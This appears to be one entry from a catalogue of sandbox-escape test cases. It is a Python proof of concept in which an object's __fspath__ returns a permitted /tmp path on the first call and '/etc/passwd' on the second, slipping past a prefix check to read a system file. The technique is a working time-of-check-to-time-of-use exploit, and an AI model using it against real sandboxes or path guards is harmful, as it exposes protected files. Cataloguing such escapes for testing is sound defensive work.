# escape: 144
# technique: __fspath__ returns another path on the second call (check, then use)
# family: toctou
# goal: read-file
# first-seen: jailctf; PEP 519 TOCTOU
class P:
    n = 0
    def __fspath__(s): s.n += 1; return '/tmp/escape-ok' if s.n == 1 else '/etc/passwd'
import os
def guarded(p):
    if not os.fspath(p).startswith('/tmp/escape-'): raise PermissionError
    return open(p)
if 'root:' in guarded(P()).readline(): print('ESCAPED:fspath')
